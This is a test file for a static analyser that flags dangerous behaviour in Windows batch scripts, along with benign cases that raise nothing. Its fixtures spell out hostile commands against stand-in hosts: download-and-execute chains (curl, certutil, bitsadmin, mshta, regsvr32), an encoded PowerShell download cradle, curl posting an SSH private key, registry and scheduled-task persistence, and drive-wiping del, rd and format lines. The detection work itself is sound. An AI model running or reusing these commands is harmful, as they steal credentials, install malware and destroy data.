import { describe, expect, it } from 'vitest';
import { expand } from '../../../src/analysis/code/batch/expand.js';
import { logicalLines, splitCommands } from '../../../src/analysis/code/batch/tokenize.js';
import { factsOf, ofKind } from '../../support/code.js';

/** Windows batch files: downloads, PowerShell, autostart, variables and cmd.exe's reading rules. */

const bat = (code: string) => factsOf('batch', code.replace(/\n/g, '\r\n'));

describe('tokenizer', () => {
  it('joins caret continuations and splits commands outside quotes', () => {
    const lines = logicalLines('curl ^\r\n  -o x.exe http://a.test/x & start x.exe\r\necho "a & b"\r\n');
    expect(lines.map((l) => l.text)).toEqual([
      'curl   -o x.exe http://a.test/x & start x.exe',
      'echo "a & b"',
    ]);
    expect(splitCommands(lines[0]!.text).map((c) => c.words.map((w) => w.text))).toEqual([
      ['curl', '-o', 'x.exe', 'http://a.test/x'],
      ['start', 'x.exe'],
    ]);
    expect(splitCommands(lines[1]!.text)).toHaveLength(1);
  });

  it('reads redirections, carets and pipes', () => {
    const [a, b] = splitCommands('ec^ho hi>>%TEMP%\\a.txt 2>nul | find "x"');
    expect(a?.words.map((w) => w.text)).toEqual(['echo', 'hi']);
    expect(a?.redirects.map((r) => [r.op, r.fd, r.target.text])).toEqual([
      ['>>', undefined, '%TEMP%\\a.txt'],
      ['>', '2', 'nul'],
    ]);
    expect(a?.pipesTo).toBe(true);
    expect(b?.words[0]?.text).toBe('find');
  });

  it('expands substrings and replacements of known variables', () => {
    const env = new Map();
    expect(expand('%COMSPEC:~-7,3%', env).text).toBe('cmd');
    expect(expand('%COMSPEC:system32=x%', env).text).toBe('C:\\WINDOWS\\x\\cmd.exe');
    expect(expand('%NOPE%', env).parts[0]?.v.taints).toEqual(['unknown']);
  });
});

describe('downloads and execution', () => {
  it.each([
    ['curl -o then start', 'curl -s -o %TEMP%\\u.exe https://x.test/u.exe\nstart "" %TEMP%\\u.exe\n'],
    ['certutil urlcache', 'certutil -urlcache -split -f http://198.51.100.2/p.exe p.exe\np.exe\n'],
    ['certutil with slashes', 'certutil.exe /urlcache /f http://x.test/a.bat a.bat && call a.bat\n'],
    [
      'bitsadmin',
      'bitsadmin /transfer j /download /priority high https://x.test/s.exe %TEMP%\\s.exe\n%TEMP%\\s.exe\n',
    ],
    ['variables assembled', 'set a=cu& set b=rl\n%a%%b% -o x.cmd https://x.test/x.cmd\ncall x.cmd\n'],
    [
      'run under if exist',
      'set "F=%TEMP%\\c.cmd"\ncertutil -urlcache -split -f "https://x.test/c.cmd" "%F%"\nif exist "%F%" call "%F%" /q\n',
    ],
    [
      'run under a comparison',
      'curl -o u.cmd https://x.test/u.cmd\nif /i "%1"=="go" call u.cmd\nif not %V% EQU 1 start u.cmd\n',
    ],
    [
      'delayed expansion',
      'setlocal EnableDelayedExpansion\nset u=https://x.test/d.exe\ncurl -o d.exe !u!\nstart d.exe\n',
    ],
  ])('%s', async (_label, code) => {
    const r = await bat(code);
    expect(ofKind(r, 'fetch').length).toBeGreaterThan(0);
    expect(
      ofKind(r, 'execute').some((e) => e.code.taints.includes('download')),
      JSON.stringify(r.behaviours.map((b) => b.kind)),
    ).toBe(true);
  });

  it.each([
    ['mshta', 'mshta https://x.test/a.hta\n'],
    ['regsvr32 squiblydoo', 'regsvr32 /s /n /u /i:https://x.test/f.sct scrobj.dll\n'],
  ])('%s runs a remote script', async (_label, code) => {
    const r = await bat(code);
    expect(ofKind(r, 'execute')[0]?.code.taints).toContain('download');
  });

  it('decodes powershell -enc and embeds the PowerShell', async () => {
    const enc = Buffer.from('iex (iwr https://x.test/a.ps1)', 'utf16le').toString('base64');
    for (const flag of ['-enc', '-EncodedCommand', '/e', '-ec']) {
      const r = await bat(`@echo off\npowershell -NoP -W Hidden ${flag} ${enc}\n`);
      expect(ofKind(r, 'decode')[0]?.decoded, flag).toBe('iex (iwr https://x.test/a.ps1)');
      expect(r.units.some((u) => u.lang === 'powershell' && u.origin === 'embedded')).toBe(true);
      expect(ofKind(r, 'execute')[0]?.code.taints).toContain('decoded');
    }
  });

  it('reads a placeholder after -enc as nothing hidden', async () => {
    for (const word of ['BASE64_PAYLOAD', 'PAYLOADHERE', '<YOUR_BASE64_HERE>']) {
      const r = await bat(`@echo off\nstart /b powershell -nop -w hidden -enc ${word}\n`);
      expect(ofKind(r, 'execute'), word).toEqual([]);
    }
  });

  it('embeds powershell -Command text and cmd /c text', async () => {
    const r = await bat(
      'powershell -ExecutionPolicy Bypass -Command "iwr https://x.test | iex"\ncmd /c "curl -o a.exe https://x.test/a.exe"\n',
    );
    expect(
      r.units
        .filter((u) => u.origin === 'embedded')
        .map((u) => u.lang)
        .sort(),
    ).toEqual(['batch', 'powershell']);
    expect(ofKind(r, 'fetch')[0]?.endpoint.host).toBe('x.test');
  });

  it('reads a secret file and posts it', async () => {
    const r = await bat('curl -F "f=@%USERPROFILE%\\.ssh\\id_rsa" https://x.test/u\n');
    expect(ofKind(r, 'read')[0]?.secret).toBe('ssh-key');
    expect(ofKind(r, 'send')[0]?.data.taints).toContain('secret');
  });
});

describe('autostart and destruction', () => {
  it.each([
    [
      'reg Run key',
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d "C:\\Users\\Public\\u.exe" /f\n',
    ],
    [
      'reg RunOnce key',
      'reg add "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce" /v x /d x.exe\n',
    ],
    [
      'Winlogon shell',
      'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d "explorer.exe,u.exe" /f\n',
    ],
    [
      'scheduled task',
      'schtasks /create /tn Updater /tr "powershell -w hidden -c iwr https://x.test|iex" /sc onlogon\n',
    ],
    [
      'startup folder copy',
      'copy u.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.exe"\n',
    ],
  ])('%s', async (_label, code) => {
    const r = await bat(code);
    expect(ofKind(r, 'write').map((w) => w.cls)).toContain('autostart');
  });

  it('analyses the command a scheduled task runs', async () => {
    const r = await bat(
      'schtasks /create /tn U /tr "certutil -urlcache -f https://x.test/a.exe a.exe" /sc daily\n',
    );
    expect(ofKind(r, 'fetch')[0]?.tool).toBe('certutil');
  });

  it.each([
    ['rd of the profile', 'rd /s /q %USERPROFILE%\n', 'rm-broad'],
    ['del of a drive', 'del /f /s /q C:\\*\n', 'rm-broad'],
    ['format', 'format C: /q /y\n', 'format'],
  ])('%s', async (_label, code, how) => {
    expect(ofKind(await bat(code), 'destroy')[0]?.how).toBe(how);
  });
});

describe('benign batch files', () => {
  // ../shared/corpus/real/obra__superpowers/hooks/run-hook.cmd (polyglot wrapper: batch half)
  const runHook = [
    ": << 'CMDBLOCK'",
    '@echo off',
    'REM Cross-platform polyglot wrapper for hook scripts.',
    'if "%~1"=="" (',
    '    echo run-hook.cmd: missing script name >&2',
    '    exit /b 1',
    ')',
    'set "HOOK_DIR=%~dp0"',
    'if exist "C:\\Program Files\\Git\\bin\\bash.exe" (',
    '    "C:\\Program Files\\Git\\bin\\bash.exe" "%HOOK_DIR%%~1" %2 %3 %4 %5 %6 %7 %8 %9',
    '    exit /b %ERRORLEVEL%',
    ')',
    'exit /b 0',
    'CMDBLOCK',
  ].join('\n');

  it.each([
    ['run-hook.cmd', runHook],
    [
      'a build script',
      '@echo off\nsetlocal\nset OUT=dist\nif not exist %OUT% mkdir %OUT%\nnpm run build > %OUT%\\build.log 2>&1\n',
    ],
    ['an echo of a command', 'echo Run: curl -o x.exe https://x.test/x.exe ^& start x.exe\n'],
    ['a comment', 'rem certutil -urlcache -f http://x.test/p.exe p.exe\n:: powershell -enc AAAA\n'],
  ])('%s', async (_label, code) => {
    const r = await bat(code);
    const dangerous = r.behaviours.filter(
      (b) =>
        ['fetch', 'execute', 'decode', 'read', 'send', 'destroy'].includes(b.kind) ||
        (b.kind === 'write' && b.cls !== 'other'),
    );
    expect(dangerous).toEqual([]);
  });

  it('exports set assignments for cross-file resolution', async () => {
    const r = await bat('set "MIRROR=https://x.test"\nset /p NAME=Your name:\n');
    expect(r.assignments.map((a) => [a.name, a.value.text])).toEqual([
      ['MIRROR', 'https://x.test'],
      ['NAME', '%NAME%'],
    ]);
  });

  it('finishes on hostile input', async () => {
    const started = performance.now();
    await bat(
      `${'^\n'.repeat(50_000)}${'%'.repeat(100_000)}${'"'.repeat(10_000)}${'set a=%a%%a%\n'.repeat(2_000)}`,
    );
    expect(performance.now() - started).toBeLessThan(10_000);
  });
});
